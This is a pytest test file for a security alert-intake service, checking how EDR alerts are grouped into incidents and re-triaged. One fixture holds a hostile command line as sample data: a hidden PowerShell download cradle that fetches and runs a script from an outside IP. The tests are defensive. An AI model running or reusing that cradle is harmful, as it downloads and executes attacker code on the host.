"""Grouping that cannot hide an attack, through the intake API as a sensor posts.

Found by a user: with an unrelated incident naming www.google.com open, a malicious alert on another
host whose command line also ran ``ping www.google.com`` answered "attached": no triage, no containment.
"""

from __future__ import annotations

from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from flows.settings import Settings
from flows.store import IncidentStatus, Store
from flows.store._schema import IncidentRow
from flows.tenants import grouping_rules, tenants_from

from .conftest import RecordingDispatcher, key_headers, ndjson

NDJSON = "application/x-ndjson"
# The demo tenant, with its own domains and ranges in its response policy.
TENANTS_YAML = """
tenants:
  - id: demo
    name: Demo Customer Ltd.
    auth:
      api_keys: [{env: TEST_DEMO_KEY}]
    policy:
      never_block:
        domains: [demo-customer.example]
        ip_ranges: [81.2.69.0/24]
"""


@pytest.fixture
def tenants_yaml() -> str:
    return TENANTS_YAML


def _alert(
    uid: str,
    host: str,
    title: str,
    rule: str,
    cmd: str | None = None,
    observables: list[dict[str, Any]] | None = None,
    severity: int = 3,
) -> dict[str, Any]:
    return {
        "class_uid": 2004,
        "severity_id": severity,
        "time": 1763780000000,
        "metadata": {"product": {"name": "Demo EDR"}, "uid": uid},
        "finding_info": {"uid": uid, "title": title, "analytic": {"uid": rule}},
        "device": {"hostname": host},
        "evidences": [{"process": {"name": "cmd.exe", "cmd_line": cmd}}] if cmd else [],
        "observables": observables or [],
    }


def _google_incident() -> dict[str, Any]:
    """Incident A: a browser on WS-1 flagged while visiting www.google.com (an everyday destination)."""
    return _alert(
        "a-1",
        "WS-1",
        "Browser extension contacted a search page",
        "edr-rule-7",
        observables=[{"name": "dst_endpoint.hostname", "type_id": 1, "value": "www.google.com"}],
        severity=2,
    )


def _malicious_on_ws2(uid: str = "b-1") -> dict[str, Any]:
    """Another host: a download cradle whose command line also pings www.google.com (a connectivity
    check), with its own malicious destination as the detection's observable."""
    return _alert(
        uid,
        "WS-2",
        "PowerShell download cradle",
        "edr-rule-1042",
        cmd="cmd /c ping -n 1 www.google.com && powershell -nop -w hidden -c "
        "\"IEX (New-Object Net.WebClient).DownloadString('http://45.33.32.156/a.ps1')\"",
        observables=[{"name": "dst_endpoint.ip", "type_id": 2, "value": "45.33.32.156"}],
        severity=4,
    )


def _post(client: TestClient, document: dict[str, Any]) -> dict[str, Any]:
    response = client.post("/v1/alerts", json=document, headers=key_headers())
    assert response.status_code == 202, response.text
    body: dict[str, Any] = response.json()
    return body


def _batch(client: TestClient, documents: list[dict[str, Any]]) -> dict[str, Any]:
    response = client.post(
        "/v1/alerts:batch", content=ndjson(documents), headers=key_headers(content_type=NDJSON)
    )
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def _reason(store: Store, incident_id: str) -> str | None:
    with Session(store.engine) as session:
        return session.get_one(IncidentRow, incident_id).retriage_reason


def test_a_malicious_alert_mentioning_google_is_not_swallowed_by_an_open_incident(
    client: TestClient, store: Store, dispatcher: RecordingDispatcher
) -> None:
    first = _post(client, _google_incident())
    assert store.claim(first["incident_id"], "run-a")  # incident A is open, its run under way

    second = _post(client, _malicious_on_ws2())

    assert second["status"] == "created" and second["incident_id"] != first["incident_id"]
    assert dispatcher.dispatched == [first["incident_id"], second["incident_id"]]  # triaged on its own
    view = store.incident(second["incident_id"])
    assert view is not None and view.hosts == ["WS-2"] and view.related_incident_id is None


def test_the_same_malicious_alert_again_still_groups_with_its_own_incident(
    client: TestClient, store: Store, dispatcher: RecordingDispatcher
) -> None:
    _post(client, _google_incident())
    second = _post(client, _malicious_on_ws2("b-1"))

    again = _post(client, {**_malicious_on_ws2("b-2"), "device": {"hostname": "WS-3"}})

    assert (again["status"], again["incident_id"]) == ("attached", second["incident_id"])
    assert len(dispatcher.dispatched) == 2


def test_private_loopback_documentation_and_own_values_relate_nothing(
    client: TestClient, store: Store, dispatcher: RecordingDispatcher
) -> None:
    shared = [
        {"name": "dst", "type_id": 2, "value": value}
        for value in ("10.20.30.47", "127.0.0.1", "192.0.2.10", "203.0.113.9", "2001:db8::1", "81.2.69.14")
    ] + [
        {"name": "dst", "type_id": 1, "value": "intranet.demo-customer.example"},
        {"name": "url", "type_id": 6, "value": "https://portal.demo-customer.example/login"},
    ]
    cmd = "net use \\\\10.0.0.5\\share & curl http://127.0.0.1:8080/ & nslookup demo-customer.example 8.8.8.8"
    documents = [
        _alert(f"p-{n}", f"WS-{n}", "Finding", f"rule-{n}", cmd=cmd, observables=shared) for n in range(3)
    ]

    body = _batch(client, documents)

    assert [r["status"] for r in body["results"]] == ["created"] * 3
    assert len({r["incident_id"] for r in body["results"]}) == 3 and len(dispatcher.dispatched) == 3


def test_the_tenants_own_values_reach_the_grouping_rules(settings: Settings) -> None:
    tenant = tenants_from(settings.tenants_file).get("demo")
    assert tenant is not None

    rules = grouping_rules(tenant)

    assert rules.own_domains == ("demo-customer.example",)
    assert [str(net) for net in rules.own_ranges] == ["81.2.69.0/24"]


def test_a_storm_of_a_thousand_identical_alerts_is_one_incident_and_one_run(
    client: TestClient, store: Store, dispatcher: RecordingDispatcher
) -> None:
    storm = [_malicious_on_ws2(f"storm-{n}") for n in range(1000)]

    body = _batch(client, storm)

    assert body["new_incidents"] == 1 and body["accepted"] == 1000
    [incident] = store.incidents()
    assert incident.alert_count == 1000 and dispatcher.dispatched == [incident.id]

    assert store.claim(incident.id, "run-1")  # more of the same while its run is under way: no news
    body = _batch(client, [_malicious_on_ws2(f"storm-late-{n}") for n in range(1000)])

    assert body["new_incidents"] == 0 and dispatcher.dispatched == [incident.id]
    assert _reason(store, incident.id) is None


def test_a_new_host_on_an_incident_awaiting_approval_is_a_new_round_dispatched(
    client: TestClient, store: Store, dispatcher: RecordingDispatcher
) -> None:
    first = _post(client, _malicious_on_ws2("b-1"))["incident_id"]
    assert store.claim(first, "run-1")
    store.set_status(first, IncidentStatus.AWAITING_APPROVAL, "escalated to an analyst", "escalate")

    again = _post(client, {**_malicious_on_ws2("b-2"), "device": {"hostname": "WS-9"}})

    assert (again["status"], again["incident_id"]) == ("reopened", first)
    assert dispatcher.dispatched == [first, first]
    view = store.incident(first)
    assert view is not None and view.status == IncidentStatus.REOPENED and view.round == 2
    assert any(t.message == "re-triage: new host WS-9" for t in view.timeline)


def test_a_new_host_on_a_triaging_incident_waits_for_the_run_then_starts_round_two(
    client: TestClient, store: Store, dispatcher: RecordingDispatcher
) -> None:
    first = _post(client, _malicious_on_ws2("b-1"))["incident_id"]
    assert store.claim(first, "run-1")

    again = _post(client, {**_malicious_on_ws2("b-2"), "device": {"hostname": "WS-9"}})

    assert (again["status"], again["incident_id"]) == ("attached", first)
    assert dispatcher.dispatched == [first]  # the run in flight would overwrite a status set now
    assert _reason(store, first) == "new host WS-9"

    assert store.end_run(first) == "new host WS-9"  # what the respond flow does when it ends
    assert store.end_run(first) is None
    view = store.incident(first)
    assert view is not None and view.status == IncidentStatus.REOPENED and view.round == 2
    assert store.undispatched() == [first]  # the runtime's sweeper starts the round
